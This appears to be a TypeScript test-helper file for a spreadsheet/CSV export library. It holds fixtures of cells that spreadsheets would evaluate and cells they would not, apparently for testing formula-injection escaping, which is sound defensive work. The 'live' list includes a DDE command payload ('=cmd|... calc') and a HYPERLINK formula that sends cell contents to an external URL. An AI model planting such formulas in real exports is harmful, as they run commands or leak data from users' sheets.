import type { Cell, Table } from "../../../lib/core/export/table";

/** A table of plain text columns "a", "b", … with these rows. */
export function aTable(
  rows: readonly (readonly Cell[])[] | AsyncIterable<readonly Cell[]>,
  width = 3,
): Table<readonly Cell[]> {
  return {
    title: "Tasks",
    columns: Array.from({ length: width }, (_none, index) => ({
      key: String.fromCharCode(97 + index),
      title: `Column ${index + 1}`,
      kind: "text" as const,
      width: 20,
      value: (row) => row[index] ?? null,
    })),
    rows,
    about: [["As of", "1998-08-03"]],
  };
}

/** All bytes of a stream. */
export async function bytesOf(chunks: AsyncIterable<Uint8Array>): Promise<Uint8Array> {
  const all: Uint8Array[] = [];
  for await (const chunk of chunks) all.push(chunk);
  return new Uint8Array(Buffer.concat(all));
}

/** Cells that a spreadsheet would run, and their neighbours that it would not. */
export const liveCells: readonly string[] = [
  "=1+1",
  "+1+1",
  "-2+3",
  "@SUM(A1)",
  "\tx",
  "\rx",
  "\nx",
  "\0x",
  "＝1+1",
  "＋1",
  "－1",
  "＠x",
  "−1",
  "  =1+1",
  "\u00A0=1+1",
  "'=1+1",
  "''=1+1",
  '=HYPERLINK("https://example.org?x="&A1,"click")',
  "=cmd|' /C calc'!A0",
  "-",
  "=",
];
export const quietCells: readonly string[] = [
  "",
  "plain",
  "'quoted' word",
  "'",
  "''",
  "a=1",
  'She said "no"',
  "one\ntwo",
  "one\r\ntwo",
  "a,b;c\td",
  " lead and trail ",
  "_x0041_ and _x000D_",
  "résumé 中文 العربية 🕊",
  "\u0001\u001F",
  "]]>&<b>",
];
